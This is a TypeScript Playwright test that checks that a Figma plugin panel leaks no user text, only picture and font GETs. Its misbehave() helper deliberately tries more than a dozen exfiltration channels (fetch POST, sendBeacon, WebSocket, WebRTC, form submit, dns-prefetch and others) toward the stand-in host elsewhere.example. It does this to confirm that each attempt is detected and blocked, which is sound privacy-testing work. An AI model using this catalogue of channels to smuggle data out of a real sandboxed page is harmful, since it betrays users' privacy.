/** What leaves the panel while a person works with it. The bundles themselves are read in test/privacy. */
import { readFileSync } from 'node:fs'

import type { FrameLocator, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'

import { eventually } from './support/eventually'
import { fetchingHtml, markedThread, marker, pictureAddresses } from './support/marked-thread'
import { drop, generate, isDrawn, paste } from './support/panel'
import { useFreshPlayground, type OpenPlayground } from './support/playground'
import { solidPng } from './support/png'
import { openProxy, type BrowserProxy } from './support/proxy'
import { watchWaysOut, type WaysOut } from './support/ways-out'

const { allowedDomains } = (
  JSON.parse(readFileSync('manifest.json', 'utf8')) as {
    readonly networkAccess: { readonly allowedDomains: readonly string[] }
  }
).networkAccess

const open = useFreshPlayground()
let proxy: BrowserProxy
beforeAll(async () => {
  proxy = await openProxy()
})
afterAll(() => proxy.close())

const soraFile = 'https://fonts.gstatic.com/s/sora/v17/latin.ttf'
const soraSheet = `@font-face { font-family: 'Sora'; font-style: normal; font-weight: 100 800; src: url(${soraFile}) format('truetype'); }`

/** Answers as those hosts would; the second picture is not there when it is asked for the first two times. */
async function standIn(page: Page): Promise<void> {
  const png = Buffer.from(solidPng(60, 40, [180, 140, 90]))
  const sora = readFileSync('node_modules/@expo-google-fonts/sora/700Bold/Sora_700Bold.ttf')
  const headers = { 'access-control-allow-origin': '*' }
  let refused = 0
  await page.route(/^https:\/\//, (route) => {
    const url = route.request().url()
    if (url === pictureAddresses[1] && refused < 2) {
      refused += 1
      return route.fulfill({ status: 503, headers })
    }
    if (pictureAddresses.some((known) => known === url))
      return route.fulfill({ body: png, headers })
    if (url === soraFile) return route.fulfill({ body: sora, headers })
    if (url.includes('family=Sora')) return route.fulfill({ body: soraSheet, headers })
    return allowedDomains.includes(new URL(url).origin)
      ? route.fulfill({ status: 400, headers })
      : route.continue()
  })
  await page.addInitScript(withoutFonts)
}

/** Runs in the page: its panel does not get three families, of the first theme and of two chosen later. */
function withoutFonts(): void {
  const faces = /@font-face\{font-family:"(?:Instrument Serif|Sora|Playfair Display)"[^}]*\}/g
  HTMLIFrameElement.prototype.setAttribute = function (name, value) {
    const isDocument = name.toLowerCase() === 'srcdoc'
    Element.prototype.setAttribute.call(this, name, isDocument ? value.replace(faces, '') : value)
  }
}

function isOfPlayground(request: Request): boolean {
  return request.url().startsWith(inject('playgroundUrl'))
}

/** Addresses asked of others, in order. */
function askedOf({ requests }: WaysOut, host: string): readonly string[] {
  const urls = requests.map((request) => request.url())
  return urls.filter((url) => url.startsWith(`https://${host}/`))
}

async function section(panel: FrameLocator, name: string): Promise<void> {
  await panel.getByRole('button', { name: new RegExp(`^${name}`) }).click({ modifiers: ['Alt'] })
}

async function chooseTheme(panel: FrameLocator, name: string): Promise<void> {
  await section(panel, 'Theme')
  await panel.getByRole('radio', { name: new RegExp(`^${name}`) }).click()
}

/** Paste, pictures, writing, more posts, a brand kit, a preset that is exported: all of it in marked words. */
async function work({ page, panel }: OpenPlayground): Promise<void> {
  await paste(panel, markedThread)
  await panel.getByText(`Nadia ${marker}`).first().waitFor()
  await panel.getByRole('tab', { name: /^Images/ }).click()
  await panel.getByRole('button', { name: 'Try again' }).first().click()
  await drop(panel, [
    { name: `${marker}.png`, type: 'image/png', bytes: [...solidPng(64, 40, [213, 17, 178])] },
  ])
  await panel.getByRole('button', { name: `Picture ${marker}.png` }).waitFor()
  await panel.getByRole('tab', { name: /^Posts/ }).click()
  await panel.locator('[data-post]').first().dblclick()
  await page.keyboard.type(`Typed ${marker}`)
  await paste(panel, `Pasted ${marker}`, fetchingHtml)
  await page.keyboard.press('Escape')
  await panel.getByRole('button', { name: 'Deck menu' }).click()
  await panel.getByRole('menuitem', { name: 'Add posts…' }).click()
  await panel.getByRole('dialog', { name: 'Add posts' }).waitFor()
  await paste(panel, `More ${marker}`, fetchingHtml)
  await section(panel, 'Brand kit')
  await panel.getByRole('button', { name: 'New', exact: true }).click()
  await panel.getByLabel('Name', { exact: true }).fill(`Brand ${marker}`)
  await panel.getByLabel('Website', { exact: true }).fill(`${marker}.example`)
  await section(panel, 'Presets')
  await panel.getByRole('button', { name: 'Save as new…' }).click()
  await panel.locator('input:focus').waitFor()
  await page.keyboard.type(`Preset ${marker}`)
  await page.keyboard.press('Enter')
  const saved = page.waitForEvent('download')
  await panel.getByRole('button', { name: 'Export…' }).click()
  expect((await saved).suggestedFilename()).toContain(marker)
}

/** Each way out once, as a bug or a foreign script in the panel might take it. */
async function misbehave(panel: FrameLocator): Promise<void> {
  await panel.locator('body').evaluate((body, word) => {
    const address = `https://elsewhere.example/${word}`
    const attempt = (act: () => unknown): void => {
      try {
        act()
      } catch {
        // A sandbox or a policy forbids it; that it was tried is what counts.
      }
    }
    attempt(() => void fetch(`${address}-fetch`, { method: 'POST', body: word }).catch(() => null))
    attempt(() => void fetch(`https://pbs.twimg.com/${word}`).catch(() => null))
    attempt(() => navigator.sendBeacon(address, word))
    attempt(() => new WebSocket('wss://elsewhere.example'))
    attempt(() => new EventSource(address))
    attempt(() => new RTCPeerConnection({ iceServers: [{ urls: 'stun:elsewhere.example' }] }))
    attempt(() => {
      new XMLHttpRequest().open('GET', address)
    })
    attempt(() => new Worker('data:text/javascript,0'))
    attempt(() => {
      new Image().src = `${address}-image`
    })
    attempt(() => {
      body.style.backgroundImage = `url(${address}-style)`
    })
    attempt(() => {
      body.insertAdjacentHTML('beforeend', `<link rel="dns-prefetch" href="${address}-name">`)
    })
    attempt(() => {
      body.insertAdjacentHTML('beforeend', `<form action="${address}-form"></form>`)
      document.querySelector('form')?.submit()
    })
    attempt(() => window.open(`${address}-window`))
    attempt(() => {
      parent.postMessage({ otherMessage: word }, '*')
    })
  }, marker)
}

test('only pictures of the paste and, while switched on, preview fonts are asked for, by bare GETs; not a word leaves', async () => {
  const ways: { now: WaysOut | null } = { now: null }
  const playground = await open({ proxy: proxy.settings }, async (page) => {
    await standIn(page)
    ways.now = await watchWaysOut(page)
  })
  const { page, panel } = playground
  const out = ways.now
  if (out === null) throw new Error('Nothing was watched.')
  // The example of the empty panel is set in a font this computer does not have; no picture was asked for.
  await eventually(() => askedOf(out, 'fonts.googleapis.com').length).toBeGreaterThan(0)
  expect(askedOf(out, 'pbs.twimg.com')).toEqual([])

  await work(playground)
  const pictures = [...pictureAddresses, ...Array.from({ length: 2 }, () => pictureAddresses[1])]
  await eventually(() => askedOf(out, 'pbs.twimg.com').toSorted()).toEqual(pictures.toSorted())
  await chooseTheme(panel, 'Cobalt')
  await eventually(() => askedOf(out, 'fonts.gstatic.com')).toEqual([soraFile])
  const families = askedOf(out, 'fonts.googleapis.com').map(
    (url) =>
      /^https:\/\/fonts\.googleapis\.com\/css2\?family=([\w+]+)[\w:,;@.]*&display=swap$/.exec(
        url,
      )?.[1],
  )
  expect(new Set(families)).toEqual(new Set(['Instrument+Serif', 'Sora']))

  await section(panel, 'Typography')
  await panel.getByLabel('Preview fonts from Google Fonts').uncheck({ force: true })
  const kept = () => page.evaluate(() => window.playground.figma?.clientStorage.getAsync('window'))
  await eventually(async () => JSON.stringify(await kept())).toContain('webFonts\\":false')
  const before = out.requests.filter((request) => !isOfPlayground(request)).length
  await chooseTheme(panel, 'Blush')
  await generate(panel)
  await panel.getByRole('button', { name: 'Copy caption' }).click()
  await panel.getByRole('radio', { name: /^Bone/ }).click()
  await panel.getByRole('button', { name: /^Update/ }).click()
  await isDrawn(panel)
  await page.getByLabel('Menu of the plugin').selectOption({ label: 'Check slides' })
  await panel.getByRole('dialog', { name: /^On the canvas: / }).waitFor()

  const others = out.requests.filter((request) => !isOfPlayground(request))
  // Opened again it loads the pictures of its carousel anew, and no font: the switch is off.
  const since = others.slice(before).map((request) => request.url())
  expect(since.filter((url) => !pictureAddresses.some((known) => known === url))).toEqual([])
  const hosts = others.map((request) => new URL(request.url()).origin)
  expect(new Set(hosts)).toEqual(new Set(allowedDomains))
  for (const request of others) {
    const headers = await request.allHeaders()
    expect([request.method(), request.postData()]).toEqual(['GET', null])
    expect(Object.keys(headers)).not.toContain('cookie')
    expect(headers['referer'] ?? '').toBe('')
    expect(JSON.stringify(headers)).not.toContain(marker)
  }
  expect(out.requests.filter((request) => request.url().includes(marker))).toEqual([])
  expect(out.attempts).toEqual([])
  expect([...new Set(out.messages)].toSorted()).toEqual(['figmaFrame', 'pluginMessage'])
  expect(proxy.asked).toEqual([])

  // The same eyes see every way out when it is taken, and Figma's policy stops what is not in the manifest.
  await misbehave(panel)
  const seen = (): string =>
    [...out.attempts, ...out.messages, ...out.requests.map((request) => request.url())].join('\n')
  for (const way of [
    'sendBeacon',
    'WebSocket',
    'EventSource',
    'RTCPeerConnection',
    'XMLHttpRequest',
  ])
    expect(seen()).toContain(way)
  for (const way of [
    'Worker',
    'submit',
    'open https:',
    'otherMessage',
    '-name',
    '-image',
    '-style',
  ])
    await eventually(seen).toContain(way)
  await eventually(seen).toContain(`https://pbs.twimg.com/${marker}`)
  await eventually(seen).toContain('blocked connect-src https://elsewhere.example')
}, 120_000)
